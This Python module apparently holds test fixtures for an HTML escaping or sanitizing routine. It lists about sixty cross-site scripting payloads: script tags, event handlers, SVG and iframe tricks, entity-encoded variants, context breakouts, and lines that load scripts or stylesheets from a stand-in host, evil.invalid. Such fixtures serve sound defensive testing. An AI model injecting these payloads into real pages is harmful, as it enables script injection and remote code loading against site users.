"""Texts that run a script, or fetch something, where a page forgets to escape them.

Each sets `window.__pwned` or asks EVIL for something, in one place of a page at least: between
tags, in an attribute, in a script, in a style, in a comment or behind a link.
"""

EVIL = "evil.invalid"
P = "window.__pwned=1"
# In UTF-16, as a page's own decoder of entities or percent signs would make it.
ENTITIES = "".join(f"&#{ord(sign)};" for sign in P)
HEXADECIMAL = "".join(f"&#x{ord(sign):x}" for sign in P)
ESCAPED = "".join(f"\\x{ord(sign):02x}" for sign in P)

BETWEEN_TAGS = (
    f"<script>{P}</script>",
    f"<ScRiPt>{P}</sCrIpT>",
    f"<script >{P}</script >",
    f"<script/x>{P}</script>",
    f"<script\n>{P}</script\n>",
    f"<script>eval('{ESCAPED}')</script>",
    f"<script>/*<!--*/{P}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<script src=data:text/javascript,{P}></script>",
    f"<script type=module>{P}</script>",
    f"<img src=x onerror={P}>",
    f'<img src="x" onerror="{P}">',
    f"<img/src/onerror={P}>",
    f"<img src=x\tonerror\t=\t{P}>",
    f"<img src=x onerror={ENTITIES}>",
    f"<img src=x onerror={HEXADECIMAL}>",
    f'<IMG """><SCRIPT>{P}</SCRIPT>">',
    f"<image src=x onerror={P}>",
    f"<img src=//{EVIL}/x.gif>",
    f"<svg onload={P}>",
    f"<svg/onload={P}//",
    f"<svg><script>{P}</script></svg>",
    f"<svg><script>{ENTITIES}</script></svg>",
    f"<svg><animate onbegin={P} attributeName=x dur=1s>",
    f"<svg><image href=//{EVIL}/y.gif></svg>",
    f"<body onload={P}>",
    f"<input onfocus={P} autofocus>",
    f"<details open ontoggle={P}>x</details>",
    f"<video><source onerror={P}></video>",
    f"<audio src=x onerror={P}></audio>",
    f"<iframe onload={P}></iframe>",
    f"<iframe src=javascript:parent.{P}></iframe>",
    f'<iframe srcdoc="<script>parent.{P}</script>"></iframe>',
    f"<object data=//{EVIL}/x.html></object>",
    f"<embed src=//{EVIL}/x.html>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<style>@import url(//{EVIL}/x.css);</style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={P}>x</b>",
    f"<div style=background:url(//{EVIL}/z.gif)>x</div>",
    f"<base href=//{EVIL}/><img src=relative.gif>",
    f"<meta http-equiv=refresh content='0;url=javascript:{P}'><img src=x onerror={P}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={P}></math>",
    f"<template><s></template><img src=x onerror={P}>",
    f"<noscript><p title='</noscript><img src=x onerror={P}>'>",
    f"<x onclick=1 tabindex=1 id=x autofocus onfocus={P}>x</x>",
    f"<script>{P};alert(1)</script>",
)
OUT_OF_SOMETHING = (
    f"</script><script>{P}</script>",
    f"</style><script>{P}</script>",
    f"</textarea></title><img src=x onerror={P}>",
    f"--><img src=x onerror={P}><!--",
    f"]]><img src=x onerror={P}>",
    f'" autofocus onfocus={P} tabindex=1 x="',
    f"' autofocus onfocus={P} tabindex=1 x='",
    f"x autofocus onfocus={P} tabindex=1",
    f'"><svg onload={P}>',
    f"'><svg onload={P}>",
    f'";{P};//',
    f"';{P};//",
    f"${{{P}}}",
    f"javascript:{P}",
)
PAYLOADS = BETWEEN_TAGS + OUT_OF_SOMETHING
